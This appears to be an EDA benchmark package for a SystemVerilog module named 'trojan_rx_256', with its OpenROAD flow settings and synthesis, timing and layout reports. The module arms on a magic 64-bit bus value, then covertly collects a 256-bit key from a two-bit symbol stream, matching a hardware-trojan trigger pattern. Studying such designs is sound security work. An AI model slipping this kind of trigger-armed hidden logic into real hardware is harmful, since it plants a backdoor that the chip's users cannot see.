File: src/rtl/trojan_rx_pkg.sv
// Shared types and default constants for the trojan_rx_256 key receiver.
// Contents: FSM state enum, default trigger/lead/key-length/timeout values,
//           symbol, key and counter widths.
package trojan_rx_pkg;

  localparam logic [63:0] TRIG_DEF    = 64'h000000000044ab93;
  localparam int unsigned LEAD_DEF    = 5;
  localparam int unsigned NSYM_DEF    = 128;
  localparam int unsigned TIMEOUT_DEF = 16;

  localparam int unsigned SYM_W = 2;
  localparam int unsigned KEY_W = 256;
  localparam int unsigned CNT_W = 8;

  typedef enum logic [1:0] {
    ST_IDLE    = 2'd0,
    ST_WAIT    = 2'd1,
    ST_CAPTURE = 2'd2
  } state_t;

endpackage

File: src/rtl/trojan_rx_shift.sv
// Symbol shift register: new symbols enter at the top, older ones move down.
// Ports: i_clk/i_rst_n clock and async reset, i_clr zeroes the register,
//        i_shift accepts i_sym, o_shift_dat is the value after shifting i_sym in.
module trojan_rx_shift
  import trojan_rx_pkg::*;
(
  input  logic             i_clk,
  input  logic             i_rst_n,
  input  logic             i_clr,
  input  logic             i_shift,
  input  logic [SYM_W-1:0] i_sym,
  output logic [KEY_W-1:0] o_shift_dat
);

  // The lowest symbol slot is always shifted out before anything reads it,
  // so only the upper KEY_W-SYM_W bits need storage.
  logic [KEY_W-1:SYM_W] r_sreg;

  assign o_shift_dat = {i_sym, r_sreg};

  always_ff @(posedge i_clk or negedge i_rst_n) begin
    if (!i_rst_n) begin
      r_sreg <= '0;
    end else if (i_clr) begin
      r_sreg <= '0;
    end else if (i_shift) begin
      r_sreg <= o_shift_dat[KEY_W-1:SYM_W];
    end
  end

endmodule

File: src/rtl/trojan_rx_256.sv
// Trigger-armed 256-bit key receiver: a data==TRIG match arms it, then after
// LEAD cycles it collects NSYM 2-bit symbols into key (aborts on TIMEOUT idle).
// Ports: clk, rst_n (async assert, sync release), data, sym_valid, sym in;
//        key, key_valid pulse, busy, err_timeout pulse out (all registered).
module trojan_rx_256
  import trojan_rx_pkg::*;
#(
  parameter logic [63:0] TRIG    = TRIG_DEF,
  parameter int unsigned LEAD    = LEAD_DEF,
  parameter int unsigned NSYM    = NSYM_DEF,
  parameter int unsigned TIMEOUT = TIMEOUT_DEF
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic [63:0]      data,
  input  logic             sym_valid,
  input  logic [SYM_W-1:0] sym,
  output logic [KEY_W-1:0] key,
  output logic             key_valid,
  output logic             busy,
  output logic             err_timeout
);

  localparam logic [CNT_W-1:0] C_LEAD_M1 = CNT_W'(LEAD - 1);
  localparam logic [CNT_W-1:0] C_NSYM_M1 = CNT_W'(NSYM - 1);
  localparam logic [CNT_W-1:0] C_TO_M1   = CNT_W'(TIMEOUT - 1);
  localparam logic [CNT_W-1:0] C_ONE     = CNT_W'(1);

  logic             r_rst_meta;
  logic             r_rst_sync_n;
  state_t           r_state;
  state_t           w_state_nxt;
  logic [CNT_W-1:0] r_wait_cnt;
  logic [CNT_W-1:0] r_sym_cnt;
  logic [CNT_W-1:0] r_idle_cnt;
  logic             w_match;
  logic             w_done;
  logic             w_abort;
  logic             w_shift;
  logic             w_clr;
  logic [KEY_W-1:0] w_shift_dat;

  // Reset asserts immediately but releases two clk edges later.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      r_rst_meta   <= 1'b0;
      r_rst_sync_n <= 1'b0;
    end else begin
      r_rst_meta   <= 1'b1;
      r_rst_sync_n <= r_rst_meta;
    end
  end

  assign w_match = (data == TRIG);

  // State register and counters.
  always_ff @(posedge clk or negedge r_rst_sync_n) begin
    if (!r_rst_sync_n) begin
      r_state    <= ST_IDLE;
      r_wait_cnt <= '0;
      r_sym_cnt  <= '0;
      r_idle_cnt <= '0;
    end else begin
      r_state <= w_state_nxt;

      if (r_state == ST_IDLE && w_match) begin
        r_wait_cnt <= C_LEAD_M1;
      end else if (r_state == ST_WAIT) begin
        r_wait_cnt <= r_wait_cnt - C_ONE;
      end

      if (r_state != ST_CAPTURE || w_done) begin
        r_sym_cnt <= '0;
      end else if (sym_valid) begin
        r_sym_cnt <= r_sym_cnt + C_ONE;
      end

      if (r_state != ST_CAPTURE || sym_valid || w_abort) begin
        r_idle_cnt <= '0;
      end else begin
        r_idle_cnt <= r_idle_cnt + C_ONE;
      end
    end
  end

  // Next state. WAIT leaves on the cycle its count would decrement to zero,
  // which makes the first CAPTURE cycle land exactly LEAD cycles after the
  // match; LEAD of one skips WAIT altogether.
  always_comb begin
    w_state_nxt = r_state;
    case (r_state)
      ST_IDLE: begin
        if (w_match) begin
          w_state_nxt = (LEAD <= 1) ? ST_CAPTURE : ST_WAIT;
        end
      end
      ST_WAIT: begin
        if (r_wait_cnt <= C_ONE) begin
          w_state_nxt = ST_CAPTURE;
        end
      end
      ST_CAPTURE: begin
        if (w_done || w_abort) begin
          w_state_nxt = ST_IDLE;
        end
      end
      default: w_state_nxt = ST_IDLE;
    endcase
  end

  // Decoded controls. Done and abort are exclusive through sym_valid.
  always_comb begin
    w_shift = (r_state == ST_CAPTURE) && sym_valid;
    w_done  = w_shift && (r_sym_cnt == C_NSYM_M1);
    w_abort = (r_state == ST_CAPTURE) && !sym_valid && (r_idle_cnt == C_TO_M1);
    w_clr   = (r_state == ST_IDLE) && w_match;
  end

  always_ff @(posedge clk or negedge r_rst_sync_n) begin
    if (!r_rst_sync_n) begin
      key         <= '0;
      key_valid   <= 1'b0;
      busy        <= 1'b0;
      err_timeout <= 1'b0;
    end else begin
      key_valid   <= w_done;
      err_timeout <= w_abort;
      busy        <= (w_state_nxt != ST_IDLE);
      if (w_done) begin
        key <= w_shift_dat;
      end
    end
  end

  trojan_rx_shift u_shift (
    .i_clk       (clk),
    .i_rst_n     (r_rst_sync_n),
    .i_clr       (w_clr),
    .i_shift     (w_shift),
    .i_sym       (sym),
    .o_shift_dat (w_shift_dat)
  );

endmodule

File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_rx_256
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_rx_pkg.sv /design/src/rtl/trojan_rx_shift.sv /design/src/rtl/trojan_rx_256.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_ASPECT_RATIO = 1.75
export CORE_MARGIN = 2
export CORE_UTILIZATION = 49
export DETAILED_ROUTE_END_ITERATION = 6
export HOLD_SLACK_MARGIN = 0.02
export PLACE_DENSITY = 0.77
export SLEW_MARGIN = 5
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 16.3 [get_ports clk]
set_input_delay 1.63 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.63 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
# After elaboration in Yosys (flattened, before gate mapping)
# Cells that the tools add are included.
dict set report classes {
  n_addsub 3
  multipliers 0
  div_mod_pow 0
  magnitude_cmp 1
  eq_ne 6
  shift 0
  mux 11
  bitwise 0
  reduce_logical 15
}
# op count
set op_table {}
lappend op_table {{254-bit two-way mux} 2}
lappend op_table {{64-bit by 23-bit == test with 1-bit output, second input constant} 1}
lappend op_table {{8-bit two-way mux} 5}
lappend op_table {{8-bit by 1-bit adder with 8-bit output, second input constant} 2}
lappend op_table {{8-bit by 4-bit == test with 1-bit output, second input constant} 1}
lappend op_table {{8-bit by 7-bit == test with 1-bit output, second input constant} 1}
lappend op_table {{8-bit by 1-bit less-or-equal comparator with 1-bit output, second input constant} 1}
lappend op_table {{2-bit nonzero test} 4}
lappend op_table {{8-bit by 1-bit subtractor with 8-bit output, second input constant} 1}
lappend op_table {{2-bit two-way mux} 3}
lappend op_table {{2-bit one-hot mux with 3 select lines} 1}
lappend op_table {{1-bit logical AND} 5}
lappend op_table {{1-bit logical OR} 4}
lappend op_table {{2-bit by 1-bit == test with 1-bit output, second input constant} 1}
lappend op_table {{2-bit == test, second input constant} 1}
lappend op_table {{2-bit zero test} 1}
lappend op_table {{2-bit != test, second input constant} 1}
lappend op_table {{1-bit zero test} 1}
dict set report totals {
  regBits 541
  latch_bits 0
  ramBits 0
  romBits 0
  input_bits 69
  output_inout_bits 259
  wordCells 47
  memories 0
}

# Logic depth before layout (Yosys ltp)
dict set report logic_depth {
  depth_word 7
  depth_mapped 7
}

# Cells and area by module
# From an unflattened synthesis, not the netlist that was laid out.
dict set report unflattened {
  cells_unflattened 2061
  area_unflattened_um2 21428.1
}
# module n_inst cells_each area_each_um2 seq_area_each_um2
set by_module_without_submodules {}
lappend by_module_without_submodules {trojan_rx_256 1 1241 11270.8 7181.9}
lappend by_module_without_submodules {trojan_rx_shift 1 820 10157.2 6356.1}

# Worst setup path after synthesis
# No wires, ideal clock.
dict set report synth_timing {
  kind {input to register}
  start {in data[16]}
  end {reg u_shift.r_sreg[155] in the netlist's numbering}
  setup_ns 0.121
  t_arrival_ns 3.170
  setup_slack_ns 13.009
  stages 7
  cell_sequence {nor4b_1 -> nand4_1 -> or4_1 -> nor4_2 -> buf_2 -> buf_2 -> nor2_1}
}
dict set report synth_between {
  elab_chain_cells 3
  elab_cells_between_ends 4
  cone_classes {eq/ne (1); mux (1); reduce/logical (2)}
}
# element line
set synth_rtl {}
lappend synth_rtl {{start: declaration} trojan_rx_256.sv:15} ;# input logic [63:0] data,
lappend synth_rtl {{64-bit by 23-bit == test with 1-bit output *} trojan_rx_256.sv:54} ;# assign w_match = (data == TRIG);
lappend synth_rtl {{1-bit logical AND *} trojan_rx_256.sv:116} ;# w_clr = (r_state == ST_IDLE) && w_match;
lappend synth_rtl {{254-bit two-way mux / 2-bit nonzero test (equally long branches)} -}
lappend synth_rtl {{end signal: assignment} trojan_rx_shift.sv:27} ;# r_sreg <= o_shift_dat[KEY_W-1:SYM_W];
lappend synth_rtl {{end: declaration} trojan_rx_shift.sv:17} ;# logic [KEY_W-1:SYM_W] r_sreg;
# Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
# A chain may end at the register's enable or synchronous reset.

# Final worst setup path
dict set report layout_timing {
  start {in sym_valid}
  end {reg u_shift.r_sreg[155] in the netlist's numbering}
}
dict set report layout_between {
  elab_chain_cells 2
}
# element line
set layout_rtl {}
lappend layout_rtl {{start: declaration} trojan_rx_256.sv:16} ;# input logic sym_valid,
lappend layout_rtl {{1-bit logical AND} trojan_rx_256.sv:113} ;# w_shift = (r_state == ST_CAPTURE) && sym_valid;
lappend layout_rtl {{2-bit nonzero test (no line)} -}
# Every way passes these cells.

==> flow_summary.toml <==
[synthesis]
synth_seq_area_share = 0.641
yosys-top-cells-area = "dfrtp_1 (64%), mux2_2 (14%), mux2i_1 (12%)"
syn_nets = 1589
synth_cell_types = 36
synth_area_mm2 = 0.0211
synth_top_cell_by_area = "dfrtp_1"
yosys_register_bits = 541
synth_top_area_share = 0.641
synthCells = 1516
avgSynthCellArea_um2 = 13.9
yosys_warnings = 0

[sta]
rsz0062_at_grt = "no"
fmax_ghz = 0.194
finalCriticalPeriod_ns = 5.14
drv_slew = 0
tns_ns = 0
whs_ns = 0.353
finalCritPeriodShare = 0.315
relSlewSlack = 0.145
setup_viol = 0
skew_ns = 0.0126
worst_slew_pin_slew_ns = 1.28
hold_violations = 0

[hold_path]
min_to = "r_rst_sync_n$_DFF_PN0_"
hold_path_class = "reg -> reg"
worstHoldStart = "r_rst_meta$_DFF_PN0_"
holdPathStages = 0

[clocking]
clock_sinks = 541
hold_buffers = 0
cts_buffer_depth = 3
htreeDepth = 2
cts_buffers = 48
clk_pin_slew_ns = 0.06
tritoncts = "built"
worstSkewPairLatency_ns = 0.56
clockRootBuffer = "clkbuf_16"
postCtsSetupBuffers = 0
cts_resized = 0

[power_and_ir_drop]
pwr-share-seq = 0.522
p_leak_nw = 14.6
combPwrFrac = 0.022
p_clk_frac = 0.456
ir_worst_vdd_v = 0.0000827
swShare = 0.204
intPower_w = 0.00207
power_density_mw_per_mm2 = 98.4
power.switching_w = 0.000531

[global_routing]
grt_pass1_vias = 13600
grt_overflow = 0
grt_max_degree = 180
met1_usage = 0.236
antenna_found_initial = 0
grt_usage = 0.199
grt_most_used_layer = "met2"
grt_pass1_wl_um = 72700
grtUsageMet3 = 0.0379
use_met2 = 0.361

[critical_path]
path_common_cell = "buf_4"
critPathTopFamily = "buffers and inverters"
cp-start-kind = "input pin"
cp_cell_sequence = "clkdlybuf4s50_1 -> nand3b_1 -> buf_12 -> buf_4 -> buf_4 -> mux2i_1 -> nor2_1"
crit_path_max_incr_delay_ns = 0.91
regToRegSetupSlack_ns = 12.33
cp-end-kind = "register"
cp_data_required_time_ns = 16.69
r2r_start = "r_state[0]$_DFF_PN0_"
reg2reg_depth = 6
slowest_stage = "buf_4"
critical_path_class = "in -> reg"
r2r_end = "u_shift.r_sreg[155]$_DFFE_PN0P_"
crit_arrival_ns = 5.54
path_max_fanout = 143
worst-path-buf-inv = 4
worst-path-stages = 7

[finish]
final_common_cell = "dfrtp_1"
synthToLayoutAreaGrowth_pct = 25.3
finalNetCount = 1894
n_antenna_cell = 0
nFillCells = 3285
fin_util = 0.622
layout-drive-gt1-share = 0.188
layout.cells.most_common_list = "dfrtp_1 (540), clkdlybuf4s50_1 (327), nor2_1 (279)"

[routing]
dr.pass1.iters = 4
drc = 0
via_per_inst = 5.23
drt_iter0_markers = 540
wl_um = 44000
dr_total_vias = 12600
wl_per_cell_um = 18.2
final_antenna_net_count = 0

[placed_design]
gp_congestion = 0.747
dp_hpwl_um = 28600
port_buffers = 327

[job]
maxCapViolCount = 0

[floorplan]
die_h_um = 279
ioPinCount = 328
initial_core_util = 0.496
die_x_um = 161
rows = 100
core_area_mm2 = 0.0425
dieArea_mm2 = 0.0448

[outcome]
outcome = "finished, final reports clean"
synth_stat cells:
cell,instances
nor3_1,5
nand3b_1,1
or4_1,3
a21o_1,1
nor2_1,279
or3_1,3
a21oi_1,3
nor2_2,1
mux2_2,256
xnor2_1,9
nand2b_1,4
nor2b_1,1
nor4bb_1,3
inv_1,2
buf_1,23
a211oi_1,2
nand3_1,9
xor2_1,7
or3b_2,1
ha_1,4
and4b_1,1
conb_1,1
mux2i_1,254
and3_1,3
clkbuf_1,5
buf_2,43
o21bai_1,1
o31ai_1,1
buf_4,16
nand4_1,5
nand2_1,10
nor4_2,1
o21ai_0,3
nor4b_1,2
nor4_1,12
dfrtp_1,541
metal layers:
layer | wire length (µm) | share of wire
met5 | 0 | 0
met2 | 23300 | 0.53
met1 | 17100 | 0.39
met4 | 1400 | 0.032
met3 | 2150 | 0.049
state kept, by name, summed over array words and instances, names as in the netlist:
register / count
u_shift.r_sreg: 254
key: 256
r_rst_meta: 1
err_timeout: 1
key_valid: 1
r_idle_cnt: 8
r_sym_cnt: 8
r_rst_sync_n: 1
r_wait_cnt: 8
busy: 1
r_state: 2
area by class of cell:
cell class	count	area, µm²	area share
Timing Repair Buffer	342	3410	0.129
Inverter	2	7.51	0.000284
Clock buffer	72	1430	0.0541
Multi-Input combinational cell	886	7150	0.270
Sequential cell	541	13500	0.512
Tap cell	561	702	0.0265
Clock inverter	13	220	0.00832
worst max-delay path by stage:
stage | from | end | slack (ns)
after floorplan | r_rst_sync_n$_DFF_PN0_ | busy$_DFF_PN0_ | 0.10
after global placement | sym_valid | u_shift.r_sreg[78]$_DFFE_PN0P_ | 10.74
after detailed placement | sym_valid | u_shift.r_sreg[134]$_DFFE_PN0P_ | 10.63
after CTS | sym_valid | u_shift.r_sreg[134]$_DFFE_PN0P_ | 11.21
after global routing | sym_valid | u_shift.r_sreg[134]$_DFFE_PN0P_ | 10.93
final | sym_valid | u_shift.r_sreg[155]$_DFFE_PN0P_ | 11.16
stage by stage:
step                setup WS [ns]  std cells  power, W  cell area [µm²]
finish                      11.16       2417   0.00260            26500
global route                10.93       2417   0.00270            26500
CTS                         11.21       2417   0.00264            26500
detailed placement          10.63       2332   0.00144            24800
global placement            10.74       2332   0.00144            24800
floorplan                   0.104       1516   0.00141            21100
logic make-up after synthesis:
family / Yosys count / share of synthesized area
buffers and inverters: 89 / 0.0212
adder cells (fa/ha/maj): 4 / 0.00237
XOR/XNOR: 16 / 0.00664
other: 1 / 0.000178
AO/OA/AOI/OAI: 11 / 0.00320
AND/OR/NAND/NOR: 344 / 0.0684
multiplexers: 510 / 0.257
flip-flops: 541 / 0.641
power groups by stage:
stage,clock (W),sequential (W),combinational (W)
after floorplan,0,0.00140,0.0000138
after global placement,0,0.00138,0.0000569
after detailed placement,0,0.00138,0.0000599
after CTS,0.00122,0.00136,0.0000599
after global routing,0.00127,0.00136,0.0000662
final,0.00119,0.00136,0.0000577
No activity file was read; power rests on OpenSTA's default activity.
